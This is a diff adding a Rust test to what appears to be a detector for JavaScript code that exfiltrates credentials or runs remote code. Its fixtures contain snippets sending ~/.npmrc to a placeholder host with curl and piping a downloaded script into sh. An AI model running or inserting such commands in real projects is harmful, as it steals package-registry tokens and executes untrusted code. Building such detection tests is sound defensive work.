@@ -143,3 +143,40 @@ fn responses_and_decoded_text_are_followed_to_code() {
         ),
     ]);
 }
+
+#[test]
+fn command_lines_take_what_they_are_given() {
+    check(&[
+        (
+            &[(
+                "i.js",
+                r#"const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
+const t = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
+execSync(`curl -d "${t}" https://c.invalid`);"#,
+            )],
+            "credential-to-network ~/.npmrc>https://c.invalid",
+        ),
+        (
+            &[(
+                "i.js",
+                r#"require("child_process").execSync("curl -d @$HOME/.npmrc https://c.invalid");"#,
+            )],
+            "credential-to-network ~/.npmrc>https://c.invalid",
+        ),
+        (
+            &[(
+                "i.js",
+                r#"require("child_process").spawn("bash", ["-c", "curl https://c.invalid | sh"]);"#,
+            )],
+            "remote-to-process https://c.invalid>sh",
+        ),
+        (
+            &[(
+                "i.js",
+                r#"const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
+execSync(`echo ${fs.readFileSync(os.homedir() + "/.npmrc")}`);"#,
+            )],
+            "",
+        ),
+    ]);
+}
